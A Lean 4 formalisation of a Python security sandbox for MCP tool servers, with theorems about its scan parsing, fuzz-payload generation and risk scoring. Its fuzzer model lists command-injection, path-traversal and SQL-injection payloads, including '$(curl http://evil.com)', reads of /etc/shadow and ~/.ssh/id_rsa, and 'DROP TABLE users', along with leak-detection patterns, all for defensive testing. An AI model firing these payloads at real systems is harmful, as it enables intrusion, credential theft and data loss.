import Mathlib

/-!
Shallow embedding of the phased analysis pipeline and risk-aggregation
engine of the `mcp-automatic-review` repository, together with theorems
settling the specification claims about it.

The embedding follows the Python sources:
  * `src/inspector/static_scanner.py`   — severity parsing, `ScanResult`
  * `src/interrogator/llm_fuzzer.py`    — payload generation and execution
  * `src/monitor/behavior_monitor.py`   — monitoring state and reports
  * `src/orchestrator/main.py`          — pipeline control flow, risk score,
                                          recommendations

Machine-level effects (subprocess calls, HTTP, Docker) are modelled as
explicit outcome parameters: each point where the Python code consults an
external system becomes an input describing what that system returned (or
that it raised), and the surrounding Python control flow — including its
`try`/`except` structure — is reproduced faithfully over those inputs.
All scores are small integers in the source (every contribution is a
multiple of 5 below 131, exactly representable in a Python float), so the
risk score is modelled as a natural number.
-/

namespace MCPSandbox

/-! ## Data model: `src/inspector/static_scanner.py` -/

/-- The `SeverityLevel` enum from `static_scanner.py`. -/
inductive SeverityLevel where
  | CRITICAL
  | HIGH
  | MEDIUM
  | LOW
  | UNKNOWN
deriving DecidableEq, Repr

/-- The `SeverityLevel(value)`: the Python `str`-enum constructor succeeds on
exactly the five member values and raises `ValueError` (here `none`)
otherwise. -/
def SeverityLevel.ofString (s : String) : Option SeverityLevel :=
  if s = "CRITICAL" then some .CRITICAL
  else if s = "HIGH" then some .HIGH
  else if s = "MEDIUM" then some .MEDIUM
  else if s = "LOW" then some .LOW
  else if s = "UNKNOWN" then some .UNKNOWN
  else none

/-- The `Vulnerability` dataclass from `static_scanner.py`. -/
structure Vulnerability where
  package_name : String
  installed_version : String
  vulnerability_id : String
  severity : SeverityLevel
  title : String
  vdescription : String
  fixed_version : Option String
deriving DecidableEq, Repr

/-- The `ScanResult` dataclass from `static_scanner.py`: the counts are stored
fields, populated by `_parse_trivy_results`. -/
structure ScanResult where
  path : String
  vulnerabilities : List Vulnerability
  total_count : Nat
  critical_count : Nat
  high_count : Nat
  medium_count : Nat
  low_count : Nat
deriving DecidableEq, Repr

/-- One raw vulnerability entry of the Trivy JSON report: each field is
`none` when the key is absent, mirroring Python `dict.get`. -/
structure RawVuln where
  pkgName : Option String := none
  installedVersion : Option String := none
  vulnerabilityID : Option String := none
  rawSeverity : Option String := none
  title : Option String := none
  rawDescription : Option String := none
  fixedVersion : Option String := none
deriving DecidableEq, Repr

/-- A raw Trivy report: the `Results` list, each entry carrying its
`Vulnerabilities` list. Only the fields `_parse_trivy_results` reads are
modelled. -/
def TrivyData : Type := List (List RawVuln)

/-- Parse one raw entry into a `Vulnerability`
(`static_scanner.py:116-126`). `vuln.get("Severity", "UNKNOWN")` defaults
a *missing* key to `"UNKNOWN"`; the enum constructor then raises
(`Except.error`) on any string outside the five members. -/
def parseVuln (v : RawVuln) : Except String Vulnerability :=
  match SeverityLevel.ofString (v.rawSeverity.getD "UNKNOWN") with
  | none => .error "ValueError: invalid SeverityLevel"
  | some sev =>
      .ok { package_name := v.pkgName.getD "unknown"
            installed_version := v.installedVersion.getD "unknown"
            vulnerability_id := v.vulnerabilityID.getD "unknown"
            severity := sev
            title := v.title.getD ""
            vdescription := v.rawDescription.getD ""
            fixed_version := v.fixedVersion }

/-- Parse a list of raw entries, stopping at the first raising entry, as
the Python loop does. -/
def parseVulns : List RawVuln → Except String (List Vulnerability)
  | [] => .ok []
  | v :: vs =>
      match parseVuln v with
      | .error e => .error e
      | .ok w =>
          match parseVulns vs with
          | .error e => .error e
          | .ok ws => .ok (w :: ws)

/-- The `_parse_trivy_results` (`static_scanner.py:107-148`): flattens the
per-result vulnerability lists, parses each entry, and counts the four
named severities (`UNKNOWN` is not a key of `severity_counts`, so it is
skipped by the `if vuln.severity in severity_counts` guard). -/
def parse_trivy_results (workspace : String) (data : TrivyData) :
    Except String ScanResult :=
  match parseVulns data.flatten with
  | .error e => .error e
  | .ok vulns =>
      .ok { path := workspace
            vulnerabilities := vulns
            total_count := vulns.length
            critical_count := vulns.countP (fun v => v.severity = .CRITICAL)
            high_count := vulns.countP (fun v => v.severity = .HIGH)
            medium_count := vulns.countP (fun v => v.severity = .MEDIUM)
            low_count := vulns.countP (fun v => v.severity = .LOW) }

/-- The parsing stage of `scan_with_trivy` (`static_scanner.py:91-105`),
given the report the tool produced: any exception raised while parsing is
caught by the blanket `except Exception` handler, which returns `None`. -/
def scan_with_trivy (workspace : String) (data : TrivyData) :
    Option ScanResult :=
  match parse_trivy_results workspace data with
  | .error _ => none
  | .ok r => some r

/-! ## Interrogator: `src/interrogator/llm_fuzzer.py` -/

/-- The `AttackType` enum from `llm_fuzzer.py`. -/
inductive AttackType where
  | COMMAND_INJECTION
  | PATH_TRAVERSAL
  | SQL_INJECTION
  | XSS
  | SSRF
  | XXE
deriving DecidableEq, Repr

/-- A JSON-ish argument value, as placed into a payload mapping by
`_generate_manual_payloads`: strings, the number `42`, or `True`. -/
inductive PayloadValue where
  | str (s : String)
  | num (n : Nat)
  | bool (b : Bool)
deriving DecidableEq, Repr

/-- The `FuzzPayload` dataclass from `llm_fuzzer.py`; the `payload` dict is a
key-value list in insertion order. -/
structure FuzzPayload where
  tool_name : String
  attack_type : AttackType
  payload : List (String × PayloadValue)
  description : String
  is_malicious : Bool
deriving DecidableEq, Repr

/-- The `FuzzResult` dataclass from `llm_fuzzer.py`; `response` keeps the raw
response JSON rendered to text (`none` when no response was obtained). -/
structure FuzzResult where
  payload : FuzzPayload
  success : Bool
  response : Option String
  error : Option String
  leaked_data : List String
  suspicious_behavior : List String
deriving DecidableEq, Repr

/-- One property of a tool `inputSchema`: name and the optional `type`
field of its spec (the only key `_generate_manual_payloads` reads). -/
structure ToolProp where
  name : String
  ptype : Option String
deriving DecidableEq, Repr

/-- A tool schema as consumed by `_generate_manual_payloads`: the optional
`name` and the `inputSchema.properties` mapping in insertion order. -/
structure ToolSchema where
  name : Option String
  properties : List ToolProp
deriving DecidableEq, Repr

/-- The `cmd_injection_patterns` (`llm_fuzzer.py:124-130`). -/
def cmd_injection_patterns : List String :=
  ["; ls -la", "| cat /etc/passwd", "&& whoami", "`id`",
   "$(curl http://evil.com)"]

/-- The `path_traversal_patterns` (`llm_fuzzer.py:133-138`). -/
def path_traversal_patterns : List String :=
  ["../../../../etc/passwd", "..\\..\\..\\windows\\system32\\config\\sam",
   "/etc/shadow", "../../.ssh/id_rsa"]

/-- The `sql_injection_patterns` (`llm_fuzzer.py:141-146`); apostrophes are
written as the escape `\x27`. -/
def sql_injection_patterns : List String :=
  ["\x27 OR \x271\x27=\x271", "\x27; DROP TABLE users--", "admin\x27--",
   "1\x27 UNION SELECT * FROM users--"]

/-- The adversarial payloads generated for one string-typed property
(`llm_fuzzer.py:152-187`): the first two patterns of each of the three
pattern lists, in list order. -/
def adversarialForProp (tool_name prop_name : String) : List FuzzPayload :=
  ((cmd_injection_patterns.take 2).map fun pat =>
    { tool_name := tool_name
      attack_type := .COMMAND_INJECTION
      payload := [(prop_name, .str pat)]
      description := "Command injection via " ++ prop_name
      is_malicious := true })
  ++ ((path_traversal_patterns.take 2).map fun pat =>
    { tool_name := tool_name
      attack_type := .PATH_TRAVERSAL
      payload := [(prop_name, .str pat)]
      description := "Path traversal via " ++ prop_name
      is_malicious := true })
  ++ ((sql_injection_patterns.take 2).map fun pat =>
    { tool_name := tool_name
      attack_type := .SQL_INJECTION
      payload := [(prop_name, .str pat)]
      description := "SQL injection via " ++ prop_name
      is_malicious := true })

/-- The benign `valid_payload` mapping (`llm_fuzzer.py:191-199`):
`"test"` for string properties, `42` for numbers, `True` for booleans;
properties of any other declared type are skipped. A property with no
`type` key defaults to `"string"`. -/
def validPayload (props : List ToolProp) : List (String × PayloadValue) :=
  props.filterMap fun p =>
    let t := p.ptype.getD "string"
    if t = "string" then some (p.name, .str "test")
    else if t = "number" then some (p.name, .num 42)
    else if t = "boolean" then some (p.name, .bool true)
    else none

/-- The `_generate_manual_payloads` (`llm_fuzzer.py:115-211`): per string
property the six adversarial payloads, then — only when the schema has at
least one property — a single benign baseline payload. -/
def generate_manual_payloads (schema : ToolSchema) : List FuzzPayload :=
  let tool_name := schema.name.getD "unknown"
  (schema.properties.flatMap fun p =>
    if p.ptype.getD "string" = "string" then
      adversarialForProp tool_name p.name
    else [])
  ++ (if schema.properties.isEmpty then []
      else
        [{ tool_name := tool_name
           attack_type := .COMMAND_INJECTION
           payload := validPayload schema.properties
           description := "Valid baseline payload"
           is_malicious := false }])

/-- The `_generate_llm_payloads` (`llm_fuzzer.py:213-220`) is a stub that
always returns the empty list. -/
def generate_llm_payloads (_schema : ToolSchema) : List FuzzPayload := []

/-- The `generate_adversarial_payloads` (`llm_fuzzer.py:85-113`): the manual
set, extended by the LLM set only when an API key is configured. -/
def generate_adversarial_payloads (anthropic_api_key : Option String)
    (schema : ToolSchema) : List FuzzPayload :=
  generate_manual_payloads schema
  ++ (if anthropic_api_key.isSome then generate_llm_payloads schema else [])

/-- Python `str.lower()` on the character list of a string. The indicator
patterns are all ASCII, for which `Char.toLower` agrees with Python. -/
def strToLower (s : String) : String :=
  String.mk (s.data.map Char.toLower)

/-- Occurrence of `pat` as a contiguous run of `text`, on character
lists. -/
def charsInfixOf : List Char → List Char → Bool
  | pat, [] => pat.isEmpty
  | pat, c :: rest => pat.isPrefixOf (c :: rest) || charsInfixOf pat rest

/-- Python substring membership `pat in text`. -/
def strContains (text pat : String) : Bool :=
  charsInfixOf pat.toList text.toList

/-- Credential-leak indicator set (`llm_fuzzer.py:247-257`). -/
def credential_patterns : List String :=
  ["aws_access_key", "aws_secret", "api_token", "private_key",
   "password", "ssh"]

/-- Filesystem-leak indicator set (`llm_fuzzer.py:261-264`). -/
def filesystem_patterns : List String :=
  ["/etc/passwd", "/etc/shadow", "id_rsa", "root:x:"]

/-- Command-execution indicator set (`llm_fuzzer.py:268`). -/
def execution_patterns : List String :=
  ["uid=", "gid=", "total ", "drwx"]

/-- The transport outcome of one `/tools/call` POST: either the response
body rendered to text by `json.dumps(response.json())`, or the message of
the exception raised by the request or by JSON decoding. -/
inductive Transport where
  | ok (responseText : String)
  | raises (msg : String)
deriving DecidableEq, Repr

/-- The `execute_payload` (`llm_fuzzer.py:222-288`): on a response, classify
the lowercased response text against the three indicator sets (the two
leak checks append in order); on a transport exception, return a failure
record with both indicator lists still empty (the lists are only appended
to after `response.json()` has succeeded). -/
def execute_payload (payload : FuzzPayload) (t : Transport) : FuzzResult :=
  match t with
  | .raises e =>
      { payload := payload, success := false, response := none
        error := some e, leaked_data := [], suspicious_behavior := [] }
  | .ok body =>
      let response_text := strToLower body
      let leaked_data :=
        (if credential_patterns.any (fun p => strContains response_text p)
         then ["Potential credential leak detected"] else [])
        ++ (if filesystem_patterns.any (fun p => strContains response_text p)
            then ["File system information leaked"] else [])
      let suspicious_behavior :=
        if execution_patterns.any (fun p => strContains response_text p)
        then ["Possible command execution"] else []
      { payload := payload, success := true, response := some body
        error := none, leaked_data := leaked_data
        suspicious_behavior := suspicious_behavior }

/-! ## Behavior monitor: `src/monitor/behavior_monitor.py` -/

/-- The `EventType` enum from `behavior_monitor.py`. -/
inductive EventType where
  | FILESYSTEM
  | NETWORK
  | PROCESS
  | SYSCALL
deriving DecidableEq, Repr

/-- The `MonitoringEvent` dataclass; the source stores `severity` as a plain
string (`"INFO"`, `"WARNING"`, `"CRITICAL"`). -/
structure MonitoringEvent where
  timestamp : String
  event_type : EventType
  description : String
  details : List (String × String) := []
  severity : String := "INFO"
deriving DecidableEq, Repr

/-- The `summary` dict computed by `generate_report`
(`behavior_monitor.py:298-305`). -/
structure BehaviorSummary where
  total_events : Nat
  filesystem_events : Nat
  network_events : Nat
  process_events : Nat
  critical_events : Nat
  warning_events : Nat
deriving DecidableEq, Repr

/-- The `BehaviorReport` dataclass from `behavior_monitor.py`. -/
structure BehaviorReport where
  start_time : String
  end_time : String
  events : List MonitoringEvent
  summary : BehaviorSummary
  alerts : List String
deriving DecidableEq, Repr

/-- The mutable state of a `BehaviorMonitor` instance: its accumulated
`self.events` and `self.start_time`. -/
structure MonitorState where
  events : List MonitoringEvent
  start_time : String
deriving DecidableEq, Repr

/-- The `start_monitoring` (`behavior_monitor.py:60-64`): resets the event
list to empty and the window start to the current time. -/
def start_monitoring (_s : MonitorState) (now : String) : MonitorState :=
  { events := [], start_time := now }

/-- The events freshly gathered by the four probes during one
`generate_report` call (each probe catches its own tool errors and
returns a — possibly empty — list). -/
structure ProbeBatch where
  filesystemEvents : List MonitoringEvent
  networkEvents : List MonitoringEvent
  processEvents : List MonitoringEvent
  logEvents : List MonitoringEvent
deriving DecidableEq, Repr

/-- All events of one batch in probe order (filesystem, network, process,
log), the order in which `generate_report` extends `self.events`. -/
def ProbeBatch.all (b : ProbeBatch) : List MonitoringEvent :=
  b.filesystemEvents ++ b.networkEvents ++ b.processEvents ++ b.logEvents

/-- The `generate_report` (`behavior_monitor.py:282-327`): extends the
persistent `self.events` with the four probes\x27 fresh events, then
derives the summary and the alert list from the extended list. Returns
the report together with the monitor state after the call. -/
def generate_report (s : MonitorState) (batch : ProbeBatch) (now : String) :
    BehaviorReport × MonitorState :=
  let events := s.events ++ batch.all
  let summary : BehaviorSummary :=
    { total_events := events.length
      filesystem_events := events.countP (fun e => e.event_type = .FILESYSTEM)
      network_events := events.countP (fun e => e.event_type = .NETWORK)
      process_events := events.countP (fun e => e.event_type = .PROCESS)
      critical_events := events.countP (fun e => e.severity = "CRITICAL")
      warning_events := events.countP (fun e => e.severity = "WARNING") }
  let alerts :=
    (events.filter fun e =>
      e.severity = "CRITICAL" ∨ e.severity = "WARNING").map (·.description)
  ({ start_time := s.start_time, end_time := now, events := events
     summary := summary, alerts := alerts },
   { events := events, start_time := s.start_time })

/-! ## Orchestrator: `src/orchestrator/main.py` -/

/-- The `SandboxStatus` enum from `main.py`. -/
inductive SandboxStatus where
  | INITIALIZING
  | SCANNING
  | ISOLATING
  | INTERROGATING
  | MONITORING
  | REPORTING
  | COMPLETED
  | FAILED
deriving DecidableEq, Repr

/-- The `SandboxResult` dataclass from `main.py`; the risk score is a small
integer in the source (see the header note), modelled as `Nat`. -/
structure SandboxResult where
  status : SandboxStatus
  scan_result : Option ScanResult
  fuzz_results : List FuzzResult
  behavior_report : Option BehaviorReport
  overall_risk_score : Nat
  recommendations : List String
  execution_time : Nat
deriving DecidableEq, Repr

/-- The `_calculate_risk_score` (`main.py:242-267`), as a function of the
three evidence slots it reads from `self`. The `if self.fuzz_results:`
guard skips the fuzzing contribution for an empty list. -/
def calculate_risk_score (scan : Option ScanResult)
    (fuzz : List FuzzResult) (behav : Option BehaviorReport) : Nat :=
  let vulnScore :=
    match scan with
    | none => 0
    | some sr => min (sr.critical_count * 10) 40 + min (sr.high_count * 5) 20
  let fuzzScore :=
    if fuzz.isEmpty then 0
    else
      let leaks := fuzz.countP (fun r => !r.leaked_data.isEmpty)
      let suspicious := fuzz.countP (fun r => !r.suspicious_behavior.isEmpty)
      min (leaks * 10) 20 + min (suspicious * 5) 10
  let behavScore :=
    match behav with
    | none => 0
    | some br => min (br.alerts.length * 10) 30
  min (vulnScore + fuzzScore + behavScore) 100

/-- The `_generate_recommendations` (`main.py:269-294`), as a function of the
score argument and the three evidence slots it reads from `self`. -/
def generate_recommendations (risk_score : Nat) (scan : Option ScanResult)
    (fuzz : List FuzzResult) (behav : Option BehaviorReport) : List String :=
  let headline :=
    if risk_score > 70 then
      ["❌ CRITICAL: Do not use this MCP server in production",
       "🔒 High risk of security breach detected"]
    else if risk_score > 40 then
      ["⚠️  WARNING: Use with extreme caution",
       "🔍 Review and fix identified vulnerabilities"]
    else
      ["✓ Moderate risk level",
       "🔧 Address minor issues before deployment"]
  let vulnLine :=
    match scan with
    | some sr =>
        if sr.critical_count > 0 then
          ["🐛 Fix " ++ toString sr.critical_count ++
           " critical vulnerabilities"]
        else []
    | none => []
  let leakLine :=
    if fuzz.isEmpty then []
    else
      let leaks := fuzz.countP (fun r => !r.leaked_data.isEmpty)
      if leaks > 0 then
        ["🔐 Fix " ++ toString leaks ++ " data leak vulnerabilities"]
      else []
  let alertLine :=
    match behav with
    | some br => if br.alerts.isEmpty then [] else ["👁️  Review behavioral alerts"]
    | none => []
  headline ++ vulnLine ++ leakLine ++ alertLine

/-- The `_generate_final_result` (`main.py:296-310`). -/
def generate_final_result (scan : Option ScanResult) (fuzz : List FuzzResult)
    (behav : Option BehaviorReport) (execution_time : Nat) : SandboxResult :=
  let risk_score := calculate_risk_score scan fuzz behav
  { status := .COMPLETED
    scan_result := scan
    fuzz_results := fuzz
    behavior_report := behav
    overall_risk_score := risk_score
    recommendations := generate_recommendations risk_score scan fuzz behav
    execution_time := execution_time }

/-- The `_create_failed_result` (`main.py:312-322`): status FAILED, score
forced to 100, a single recommendation naming the error, and whatever
evidence slots `self` held at that moment. -/
def create_failed_result (error : String) (scan : Option ScanResult)
    (fuzz : List FuzzResult) (behav : Option BehaviorReport)
    (execution_time : Nat) : SandboxResult :=
  { status := .FAILED
    scan_result := scan
    fuzz_results := fuzz
    behavior_report := behav
    overall_risk_score := 100
    recommendations := ["Analysis failed: " ++ error]
    execution_time := execution_time }

/-- Outcome of one pipeline phase as observed by the orchestrator: the
value it returned, or the message of the exception it raised into
`run_complete_analysis`. -/
inductive PhaseOutcome (α : Type) where
  | ok (a : α)
  | raises (msg : String)
deriving DecidableEq, Repr

/-- Everything external that one `run_complete_analysis` call observes:
what each phase produced (or raised), whether container teardown fails,
the wall-clock strings and the measured duration. -/
structure RunEnv where
  scanOutcome : Option ScanResult
  isolationOutcome : Option String
  interrogationOutcome : PhaseOutcome (List FuzzResult)
  monitorBatch : PhaseOutcome ProbeBatch
  cleanupFails : Bool
  startTimeStr : String
  collectTimeStr : String
  duration : Nat

/-- The `run_complete_analysis` (`main.py:81-137`). Mirrors the source
control flow: Phase 1 stores the scan outcome; a `None` from
`_setup_isolation` returns the failed result; afterwards an exception
raised by interrogation or by report collection is caught by the outer
`except Exception` handler, which returns a failed result built from the
fields assigned so far — `_cleanup_container` is only reached on the
straight-line path, where its own failure is swallowed. The second
component counts how often `_cleanup_container` was invoked. -/
def run_complete_analysis (env : RunEnv) : SandboxResult × Nat :=
  let scan := env.scanOutcome
  match env.isolationOutcome with
  | none =>
      (create_failed_result "Failed to create sandbox" scan [] none
        env.duration, 0)
  | some _containerName =>
      let mon : MonitorState :=
        start_monitoring { events := [], start_time := env.startTimeStr }
          env.startTimeStr
      match env.interrogationOutcome with
      | .raises e => (create_failed_result e scan [] none env.duration, 0)
      | .ok fuzz =>
          match env.monitorBatch with
          | .raises e => (create_failed_result e scan fuzz none env.duration, 0)
          | .ok batch =>
              let report := (generate_report mon batch env.collectTimeStr).1
              (generate_final_result scan fuzz (some report) env.duration, 1)

/-! ## The risk formula as the specification words it -/

/-- The additive capped risk formula exactly as §4.6 of the specification
states it: `min(critical*10,40) + min(high*5,20) + min(L*10,20) +
min(S*5,10) + min(alerts*10,30)`, summed then clamped to 100, with an
absent evidence category contributing 0. -/
def riskScoreSpec (scan : Option ScanResult) (fuzz : List FuzzResult)
    (behav : Option BehaviorReport) : Nat :=
  let vuln :=
    match scan with
    | none => 0
    | some sr => min (sr.critical_count * 10) 40 + min (sr.high_count * 5) 20
  let leakL := fuzz.countP (fun r => !r.leaked_data.isEmpty)
  let suspS := fuzz.countP (fun r => !r.suspicious_behavior.isEmpty)
  let fuzzing := min (leakL * 10) 20 + min (suspS * 5) 10
  let behavioral :=
    match behav with
    | none => 0
    | some br => min (br.alerts.length * 10) 30
  min (vuln + fuzzing + behavioral) 100

/-! ## Theorems -/

/-- Claim C1: For every combination of scan evidence (possibly absent),
list of fuzz evidence, and behavior evidence (possibly absent), the risk
score computed by `_calculate_risk_score` equals
`min(critical*10,40) + min(high*5,20) + min(L*10,20) + min(S*5,10) +
min(alerts*10,30)` clamped to 100, where `L` counts FuzzEvidence with
non-empty leak-indicator lists and `S` those with non-empty
suspicious-indicator lists, and an absent category contributes 0. -/
theorem risk_score_matches_spec (scan : Option ScanResult)
    (fuzz : List FuzzResult) (behav : Option BehaviorReport) :
    calculate_risk_score scan fuzz behav = riskScoreSpec scan fuzz behav := by
  unfold calculate_risk_score riskScoreSpec
  cases fuzz <;> simp

/-- Every vulnerability list partitions by severity: the length is the
sum of the five per-severity counts. -/
theorem severity_partition (vs : List Vulnerability) :
    vs.length =
      vs.countP (fun v => v.severity = .CRITICAL)
      + vs.countP (fun v => v.severity = .HIGH)
      + vs.countP (fun v => v.severity = .MEDIUM)
      + vs.countP (fun v => v.severity = .LOW)
      + vs.countP (fun v => v.severity = .UNKNOWN) := by
  induction vs with
  | nil => simp
  | cons v vs ih =>
      rcases hv : v.severity <;>
        simp [List.countP_cons, hv, ih] <;> omega

/-- Claim C5: For every `ScanEvidence` produced by parsing a scanner
report: `total_count` equals the length of the full vulnerability list,
each named count equals the number of vulnerabilities of that severity,
and UNKNOWN-severity items are counted in `total_count` but in none of
the four named buckets (the total is the four buckets plus the UNKNOWN
count). -/
theorem scan_counts_invariant (ws : String) (data : TrivyData)
    (sr : ScanResult) (h : parse_trivy_results ws data = .ok sr) :
    sr.total_count = sr.vulnerabilities.length
    ∧ sr.critical_count
        = sr.vulnerabilities.countP (fun v => v.severity = .CRITICAL)
    ∧ sr.high_count = sr.vulnerabilities.countP (fun v => v.severity = .HIGH)
    ∧ sr.medium_count
        = sr.vulnerabilities.countP (fun v => v.severity = .MEDIUM)
    ∧ sr.low_count = sr.vulnerabilities.countP (fun v => v.severity = .LOW)
    ∧ sr.total_count
        = sr.critical_count + sr.high_count + sr.medium_count + sr.low_count
          + sr.vulnerabilities.countP (fun v => v.severity = .UNKNOWN) := by
  unfold parse_trivy_results at h
  rcases hp : parseVulns data.flatten with e | vulns <;> rw [hp] at h
  · cases h
  · cases h
    refine ⟨rfl, rfl, rfl, rfl, rfl, ?_⟩
    exact severity_partition vulns

/-- Claim C5 witness: the direct test from §8 — one CRITICAL entry plus one
entry with the severity key absent (parsed as UNKNOWN) gives `total=2`,
`critical=1`, and the other three buckets 0. -/
theorem scan_counts_invariant_witness :
    ∃ sr, parse_trivy_results "/ws"
        [[{ rawSeverity := some "CRITICAL" }, { rawSeverity := none }]]
        = .ok sr
      ∧ sr.total_count = sr.vulnerabilities.length
      ∧ sr.total_count = 2 ∧ sr.critical_count = 1 ∧ sr.high_count = 0
      ∧ sr.medium_count = 0 ∧ sr.low_count = 0 := by
  refine ⟨_, rfl, ?_⟩
  have h := scan_counts_invariant "/ws"
    [[{ rawSeverity := some "CRITICAL" }, { rawSeverity := none }]] _ rfl
  exact ⟨h.1, by decide, by decide, by decide, by decide, by decide⟩

/-- Claim C4 counterexample: The claim asserts that an entry with a
severity string outside the five members is parsed with severity UNKNOWN
and kept. In the code, `SeverityLevel(vuln.get("Severity", "UNKNOWN"))`
raises `ValueError` for such a string (the `"UNKNOWN"` default only
covers a *missing* key); the blanket `except Exception` handler of
`scan_with_trivy` then returns `None`, discarding the entire scan: a
report with the single severity string `"NEGLIGIBLE"` yields an absent
scan result, not a kept UNKNOWN vulnerability. -/
theorem unknown_severity_discards_scan :
    scan_with_trivy "/ws" [[{ rawSeverity := some "NEGLIGIBLE" }]] = none
    ∧ parse_trivy_results "/ws" [[{ rawSeverity := some "NEGLIGIBLE" }]]
        = .error "ValueError: invalid SeverityLevel" := by
  constructor <;> rfl

/-- On success, `parseVulns` keeps every raw entry: no vulnerability is
dropped. -/
theorem parseVulns_length (vs : List RawVuln) (ws : List Vulnerability)
    (h : parseVulns vs = .ok ws) : ws.length = vs.length := by
  induction vs generalizing ws with
  | nil => cases h; rfl
  | cons v vs ih =>
      unfold parseVulns at h
      rcases hv : parseVuln v with e | w <;> rw [hv] at h
      · cases h
      · rcases hvs : parseVulns vs with e | ws2 <;> rw [hvs] at h
        · cases h
        · cases h
          simp [ih ws2 hvs]

/-- If any raw entry fails to parse, the whole list fails. -/
theorem parseVulns_error_of_mem (vs : List RawVuln) (v : RawVuln)
    (hmem : v ∈ vs) (e : String) (hv : parseVuln v = .error e) :
    ∃ e2, parseVulns vs = .error e2 := by
  induction vs with
  | nil => cases hmem
  | cons w ws ih =>
      rcases List.mem_cons.mp hmem with rfl | hmem2
      · exact ⟨e, by unfold parseVulns; rw [hv]⟩
      · rcases hw : parseVuln w with ew | pw
        · exact ⟨ew, by unfold parseVulns; rw [hw]⟩
        · rcases ih hmem2 with ⟨e2, he2⟩
          exact ⟨e2, by unfold parseVulns; rw [hw, he2]⟩

/-- Claim C4, amended: An entry whose severity *key is missing* is parsed
with severity UNKNOWN and kept; on a successful parse no vulnerability is
dropped (`total_count` equals the number of raw entries). But an entry
whose severity string is *present and outside* the five recognized values
makes the parse raise, and `scan_with_trivy` then discards the entire
scan result (returns absent) rather than mapping the entry to UNKNOWN. -/
theorem unknown_severity_amended (ws : String) (data : TrivyData) :
    (∀ v : RawVuln, v.rawSeverity = none →
      ∃ w, parseVuln v = .ok w ∧ w.severity = .UNKNOWN)
    ∧ (∀ sr, scan_with_trivy ws data = some sr →
        sr.total_count = data.flatten.length)
    ∧ (∀ v ∈ data.flatten, ∀ s, v.rawSeverity = some s →
        SeverityLevel.ofString s = none →
        scan_with_trivy ws data = none) := by
  refine ⟨?_, ?_, ?_⟩
  · intro v hv
    unfold parseVuln
    rw [hv]
    exact ⟨_, rfl, rfl⟩
  · intro sr h
    unfold scan_with_trivy parse_trivy_results at h
    rcases hp : parseVulns data.flatten with e | vulns <;> rw [hp] at h
    · cases h
    · cases h
      exact parseVulns_length _ _ hp
  · intro v hmem s hs hbad
    have hv : parseVuln v = .error "ValueError: invalid SeverityLevel" := by
      unfold parseVuln
      rw [hs]
      simp [Option.getD, hbad]
    rcases parseVulns_error_of_mem data.flatten v hmem _ hv with ⟨e2, he2⟩
    unfold scan_with_trivy parse_trivy_results
    rw [he2]

/-- Claim C4, amended, witness: a missing severity key parses as UNKNOWN,
and a present unrecognized severity string (`"MODERATE"`) discards the
whole scan. -/
theorem unknown_severity_amended_witness :
    (∃ w, parseVuln { rawSeverity := none } = .ok w ∧ w.severity = .UNKNOWN)
    ∧ scan_with_trivy "/w" [[{ rawSeverity := some "MODERATE" }]] = none := by
  refine ⟨(unknown_severity_amended "/w" [[]]).1 _ rfl, ?_⟩
  exact (unknown_severity_amended "/w"
      [[{ rawSeverity := some "MODERATE" }]]).2.2
    { rawSeverity := some "MODERATE" } (by simp [List.flatten])
    "MODERATE" rfl (by rfl)

/-- Claim C9: For every operation schema whose input declares zero
properties, the manual payload generator returns the empty list — no
adversarial payloads and no benign baseline payload. -/
theorem no_properties_no_payloads (schema : ToolSchema)
    (h : schema.properties = []) : generate_manual_payloads schema = [] := by
  unfold generate_manual_payloads
  rw [h]
  rfl

/-- Claim C9 witness: a concrete schema with an empty property mapping
produces no payloads. -/
theorem no_properties_no_payloads_witness :
    generate_manual_payloads { name := some "noop", properties := [] } = [] :=
  no_properties_no_payloads { name := some "noop", properties := [] } rfl

/-- Every payload of an adversarial block is tagged malicious. -/
theorem adversarialForProp_malicious (t n : String) :
    ∀ pl ∈ adversarialForProp t n, pl.is_malicious = true := by
  intro pl h
  simp [adversarialForProp, cmd_injection_patterns, path_traversal_patterns,
    sql_injection_patterns] at h
  rcases h with rfl | rfl | rfl | rfl | rfl | rfl <;> rfl

/-- Every payload of the adversarial flatMap block is tagged malicious. -/
theorem advBlock_malicious (schema : ToolSchema) :
    ∀ pl ∈ schema.properties.flatMap (fun p =>
        if p.ptype.getD "string" = "string" then
          adversarialForProp (schema.name.getD "unknown") p.name
        else []),
      pl.is_malicious = true := by
  intro pl h
  rw [List.mem_flatMap] at h
  obtain ⟨p, _, hmem⟩ := h
  by_cases hs : p.ptype.getD "string" = "string"
  · rw [if_pos hs] at hmem
    exact adversarialForProp_malicious _ _ pl hmem
  · rw [if_neg hs] at hmem
    cases hmem

/-- The adversarial block of one string property contributes at most its
own counts to the whole manual list. -/
theorem countP_manual_ge_block (schema : ToolSchema) (p : ToolProp)
    (hp : p ∈ schema.properties) (hstr : p.ptype.getD "string" = "string")
    (pred : FuzzPayload → Bool) :
    (adversarialForProp (schema.name.getD "unknown") p.name).countP pred
      ≤ (generate_manual_payloads schema).countP pred := by
  obtain ⟨s, t, hst⟩ := List.append_of_mem hp
  unfold generate_manual_payloads
  rw [hst]
  simp only [List.flatMap_append, List.flatMap_cons, if_pos hstr,
    List.countP_append]
  omega

/-- The block for property `n` holds exactly 2 command-injection, 2
path-traversal and 2 SQL-injection payloads keyed by `n`. -/
theorem adversarialForProp_counts (t n : String) :
    ((adversarialForProp t n).countP (fun pl =>
        pl.is_malicious && pl.attack_type == AttackType.COMMAND_INJECTION
          && pl.payload.any (fun kv => kv.1 == n)) = 2)
    ∧ ((adversarialForProp t n).countP (fun pl =>
        pl.is_malicious && pl.attack_type == AttackType.PATH_TRAVERSAL
          && pl.payload.any (fun kv => kv.1 == n)) = 2)
    ∧ ((adversarialForProp t n).countP (fun pl =>
        pl.is_malicious && pl.attack_type == AttackType.SQL_INJECTION
          && pl.payload.any (fun kv => kv.1 == n)) = 2) := by
  refine ⟨?_, ?_, ?_⟩ <;>
    simp [adversarialForProp, cmd_injection_patterns, path_traversal_patterns,
      sql_injection_patterns, List.countP_cons]

/-- Claim C6: For a schema declaring at least one input property, the
manual generator produces, per string-typed property, at least 2
command-injection, 2 path-traversal and 2 SQL-injection payloads keyed by
that property and tagged adversarial, plus exactly one benign baseline
payload whose mapping assigns `"test"` to string properties, `42` to
number properties and `true` to boolean properties; with no LLM key
configured, `generate_adversarial_payloads` returns exactly this manual
set. -/
theorem manual_payload_generation (schema : ToolSchema)
    (h : schema.properties ≠ []) :
    generate_adversarial_payloads none schema = generate_manual_payloads schema
